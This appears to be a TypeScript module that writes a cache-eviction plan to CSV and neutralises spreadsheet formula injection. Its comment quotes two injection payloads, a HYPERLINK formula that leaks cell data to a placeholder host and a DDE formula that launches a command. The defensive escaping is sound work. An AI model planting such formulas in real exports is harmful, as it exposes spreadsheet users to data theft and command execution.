import { outcomeOf } from './doc.js';
import type { PlanDoc } from './plan-schema.js';
import { escapeName } from '../shared/escape.js';

/**
 * What a spreadsheet would evaluate at the start of a cell (OWASP, "CSV Injection"): the formula starts `=`, `+`, `-`,
 * `@` (and their full-width forms, which some Excel versions read as the same), a tab and a carriage return. A file
 * named `=HYPERLINK("http://x/?"&A1)` or `=cmd|' /C calc'!A0` must reach the sheet as text.
 */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/**
 * One CSV field (RFC 4180): quoted when it holds a comma, a quote, a line break, a semicolon or a tab (the other
 * separators spreadsheets guess, so `x;=1+2` cannot become a second, evaluated cell) or edge spaces; quotes doubled.
 * Text is in the one escape form (shared/escape.ts: a line break is `\x0a`, a byte that is not UTF-8 `\xff`).
 * A text that a spreadsheet would evaluate gets a leading `'` (which makes it text) and is quoted. Numbers are
 * numbers: a negative one is written as it is.
 */
export function csvField(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number' || typeof v === 'boolean') return String(v);
  const s = escapeName(String(v));
  if (FORMULA_START.test(s)) return `"'${s.replace(/"/g, '""')}"`;
  return /[",;\t\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export const CSV_COLUMNS = [
  'host',
  'root',
  'entry',
  'class',
  'kind',
  'bytes',
  'apparent_bytes',
  'last_used',
  'idle_seconds',
  'hits',
  'in_use',
  'pinned',
  'decision',
  'reason',
  'detail',
  'order',
  'outcome',
  'outcome_detail',
] as const;

/** A row per entry, victims first in eviction order, with a header row. CRLF line ends, as RFC 4180 says. */
export function planToCsv(doc: PlanDoc): string {
  const rows: unknown[][] = [[...CSV_COLUMNS]];
  for (const e of doc.entries) {
    const o = outcomeOf(doc, e.name);
    rows.push([
      doc.host,
      doc.root,
      e.name,
      e.class,
      e.kind,
      e.bytes,
      e.apparentBytes,
      e.lastUsed,
      e.idleSeconds,
      e.hits,
      e.inUse.join('; '),
      e.pinned,
      e.decision,
      e.reason,
      e.detail,
      e.order,
      o?.outcome ?? '',
      o?.detail ?? '',
    ]);
  }
  return rows.map((r) => r.map(csvField).join(',')).join('\r\n') + '\r\n';
}
